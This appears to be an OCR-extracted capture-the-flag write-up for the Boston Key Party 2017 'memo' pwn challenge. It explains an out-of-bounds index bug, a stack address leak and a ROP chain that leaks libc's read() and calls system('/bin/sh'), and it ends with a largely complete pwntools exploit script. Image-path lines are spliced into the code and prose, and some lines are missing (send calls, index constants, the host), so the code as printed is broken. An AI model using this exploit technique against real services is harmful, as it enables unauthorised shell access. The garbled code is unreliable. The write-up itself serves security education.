[writeup by @abiondo]

**CTF:** Boston Key Party CTF 2017

**Team:** No Pwn Intended

**Task:** pwn/memo

**Points:** 300

We were given an ELF 64-bit binary of a simple memo taking application, along with its dynamically linked `libc`. `checksec` shows NX and full RELRO. Here's the relevant reversed parts:// @ 0x602A00
size_t g_msg_index;
// @ 0x602A60
int g_msg_len[4];
char *g_msg_buf[5];
char **g_msg_stack[5];

// @ 0x400C04
int read_decimal(const char *prompt)
char buf[8];

read(0, buf, sizeof(buf));

return atoi(buf);

// @ 0x400C52
void new_message()
char *buf; // @ bp - 16
size_t len;

buf = 0;
len = 0;

g_msg_index = read_decimal("Index: ");
if (g_msg_buf[g_msg_index]) {
puts("can't use this index\n");

if (g_msg_index > 4) {
puts("Index too large");

len = read_decimal("Length: ");
if (len > 32) {
puts("message too long, you can leave on memo though");
buf = malloc(32);
read(0, buf, len);
} else {
buf = malloc(len);
printf("Message: ");
read(0, buf, len);g_msg_buf[g_msg_index] = buf;
g_msg_stack[g_msg_index] = &buf;
g_msg_len[g_msg_index] = len;

// @ 0x400DA8
void edit_message()
if (!g_msg_buf[g_msg_index]) {
puts("have to leave message first");

printf("Edit message: ");
read(0, g_msg_buf[g_msg_index], g_msg_len[g_msg_index]);

puts("edited! this is edited message!");
printf("%s\n\n", (char *) &g_msg_buf[g_msg_index]);

`new_message` and `edit_message` are called by `main` when `1` or `2` (respectively) are entered as choices in the main menu. There's an obvious heap overflow in `new_message` when `len > 32`, we're going to ignore that (there are more heap vulnerabilities in other places, I didn't use them). Instead, we see that `edit_message` trusts the value of `g_msg_index` (i.e. the index of the most recent memo we worked on). `new_message` sets it *before* checking it, so by trying to create a new memo with a bogus index and then editing it we can trigger out-of-bound reads for `g_msg_buf` and `g_msg_len`. Also note that `g_msg_len` is of the wrong size, `4` instead of `5`.

`g_msg_buf` immediately follows `g_msg_len` in memory, so (provided we pass the `!g_msg_buf[g_msg_index]` check) we can pass `read` an address as size, which will be a big number. Note that `read` reads *up to* the specified amount of bytes, so we can control how much we write. `g_msg_stack` follows `g_msg_buf` in memory, so we can make `read` write to a stack address in the now-defunct `new_message` stack frame. The base pointer for `new_message` and `edit_message` will be the same because they're both called from `main` and have the same arguments. Since the return address is at `bp + 8` and `buf` in `new_message` is at `bp - 16` we need `8 - (-16) = 24` filler bytes to reach the return address of `edit_message`. We now have RIP control.

Notice that `g_msg_len` is an array of `int`s, i.e. 4 bytes. The heap addresses in `g_msg_buf` are low and use the lower 32 bits, so we'll need the `g_msg_len` out-of-bounds to lineup at a `g_msg_buf` element boundary (i.e. the edit index has to be even), otherwise we'll get a zero-length read. Also, the edit index has to be >= 5 to get to `g_msg_stack`. We'll create a memo with index `1`, then set the indexto `6`, then edit sending our exploit buffer. This will result in `read(0, g_msg_stack[1], ((size_t) (g_msg_buf[1])) & 0xFFFFFFFF)`.

There's also an address leak in `edit_message`, which is useful as the stack is randomized. The function prints the *address* of the memo buffer as a string instead of its content. In our out-of-bounds situation this will be the address of `buf` in the `new_message` frame, i.e. the address at which `read` writes our data. `printf` will stop at the first NUL byte. We know the top two bytes will be zero (because 64-bit addressing is really 48-bit). We assume the lower 6 bytes don't contain NULs, so we can leak them (and if they do, we just need to try again).

The binary has NX mitigation, so we need to build a ROP chain. Unfortunately `libc` is dynamically linked, so we can only callimported functions via PLT, and there's no `system` or `exec*` imported. Also, the binary has a small selection of gadgets and there are no syscall gadgets. We have the `libc`, so we can figure out the offset of e.g. `system` from any other function. The plan is to read the address of a `libc` function (I chose `read`) off the GOT, calculate the address of `system` and call `system("/bin/sh")`. Note also that, due to full RELRO, we can't overwite the GOT, so we can't return to PLT and we'll need a gadget to jump to an arbitrary address stored in a register or memory.

Due to the small gadget selection I couldn't find a way to calculate the address of `system` inside the ROP chain, so the plan became sending the address of `read` over the socket to my script, doing the calculation there and sending the address of `system` back to the ROP chain. We need gadgets to set the first three arguments (`rdi`, `rsi`, `rdx`) and to jump to an arbitrary location read off memory. I used the following gadgets:

# pop rdi; ret;
POP_RDI = 0x401263
# pop rsi; pop r15; ret;
POP_RSI_R15 = 0x401261
# pop rbp; ret;
POP_RBP = 0x400900
# pop rdx; mov eax, dword ptr [rbp - 4];
# mov rax, qword ptr [rax*8 + 0x401528]; jmp rax;
POP_RDX_JMP = 0x401192

The first three are self-explanatory (we'll see why we need `POP_RBP` shortly). The last one is a bit more complex and serves two purposes. First, it pops `rdx` off the stack, allowing us to set it. Then it does a jump through some indirections. It loads the dword`eax` from `rbp - 4`, then jumps to the address read from `((uint64_t) eax) * 8 + 0x401528`. This allows us to jump to any address if we can place it somewhere in memory between `0x401528` and `0x800401520` at a 8-byte aligned offset from `0x401528`. Say our jump address is stored at `addr`: to prepare the jump we place the dword `(addr - 0x401528) / 8` at a known location `eax_addr`, then we use `POP_RBP` to set `rbp` to `eax_addr + 4`.

In the following listings each line is a 64-bit qword. The exploit buffer starts with 24 junk bytes to get to the return address. We then call `puts` to print the GOT entry for `read` (using `write` would've been better, but I was lazy and assumed there were no NULs in the bottom 48 bits):

0x601fa8 # 1st arg, read() @ GOT
0x400818 # puts() @ PLT

Now we need to call `read(0, some_writable_address, 8)` to read back the address of `system`. I chose `0x602a00` (in BSS) as the writable address. We'll call `read` via the `POP_RDX_JMP`gadget (because we need to fill `rdx`). The address of `read` is placed at `0x601fa8` (in the GOT). We'll put `(0x601fa8 - 0x401528) / 8` on the stack, after the ROP chain. We leaked stack addresses so we know where it's at, and we'll call its address `eax_for_read_addr`. I also placed a trivial call to `getchar` to avoid partial read issues with the connection (and because I'm paranoid).

0x400858 # getchar() @ PLT
0 # 1st arg
0x602a00 # 2nd arg, writable address
0 # r15, junk
eax_for_read_addr + 4
8 # 3rd arg

Great, now all we need to do is call `system("/bin/sh")`. The address of `system` is stored at `0x602a00`. We calculate `(0x602a00 - 0x401528) / 8` and put it on the stack at `eax_for_system_addr`. We also put a NUL-terminated string `/bin/sh` on the stack at `binsh_addr`.

binsh_addr # 1st arg
eax_for_system_addr + 4
0 # rdx, junk

We finally get a shell:

$ cat /home/memo/flag
bkp{you are a talented and ambitious hacker}

Full exploit code:from pwn import *

def login(p, uname):
p.recvuntil('name: ')
p.recvuntil('password? (y/n) ')

def do_cmd(p, cmd):
p.recvuntil('>> ')

def new_memo_set_index(p, idx):
do_cmd(p, '1')
p.recvuntil('Index: ')

def new_memo(p, idx, size, msg):
new_memo_set_index(p, idx)
p.recvuntil('Length: ')
p.recvuntil('Message: ')

def edit_memo(p, msg):
do_cmd(p, '2')
p.recvuntil('Edit message: ')
leak = p.recv(6)
return u64(leak + '\x00\x00')

PUTS_PLT = 0x400818
READ_PLT = 0x400840
GETCHAR_PLT = 0x400858
READ_GOT = 0x601fa8
POP_RDI = 0x401263
POP_RSI_R15 = 0x401261
POP_RBP = 0x400900
# pop rdx; mov eax, dword ptr [rbp - 4];
# mov rax, qword ptr [rax*8 + 0x401528]; jmp rax;
POP_RDX_JMP = 0x401192W_ADDR = 0x602a00

SYSTEM_READ_OFF = -0xb1620 # -0xb23c0 local


context(arch='amd64', os='linux')

p = remote('', 8888)

login(p, 'A')

new_memo(p, IDX_NEW, 1, 'A')
new_memo_set_index(p, IDX_EDIT)

buf_addr = edit_memo(p, '')
eax_for_read_addr = buf_addr + 24 + 19*8
eax_for_system_addr = eax_for_read_addr + 4
binsh_addr = eax_for_system_addr + 4

buf = 'A'*24

# puts(READ_GOT)
buf += p64(POP_RDI)
buf += p64(READ_GOT)
buf += p64(PUTS_PLT)
# getchar()
buf += p64(GETCHAR_PLT)
#read(0, W_ADDR, 8)
buf += p64(POP_RDI)
buf += p64(0)
buf += p64(POP_RSI_R15)
buf += p64(W_ADDR)
buf += p64(0) # r15, junk
buf += p64(POP_RBP)
buf += p64(eax_for_read_addr + 4)
buf += p64(POP_RDX_JMP)
buf += p64(8)
# (*W_ADDR)("/bin/sh")
buf +=p64(POP_RDI)
buf += p64(binsh_addr)
buf += p64(POP_RBP)
buf += p64(eax_for_system_addr + 4)
buf += p64(POP_RDX_JMP)
buf += p64(0) # rdx, junk

buf += p32((READ_GOT - 0x401528) / 8)buf += p32((W_ADDR - 0x401528) / 8)
buf += '/bin/sh\x00'

edit_memo(p, buf)
read_addr = u64(p.recv(6) + '\x00\x00')
p.sendline('A' + p64(read_addr + SYSTEM_READ_OFF))


Original writeup (https://github.com/SPRITZ-Research-Group/ctf-writeups/tree/master/bkp-2017/pwn/memo-300).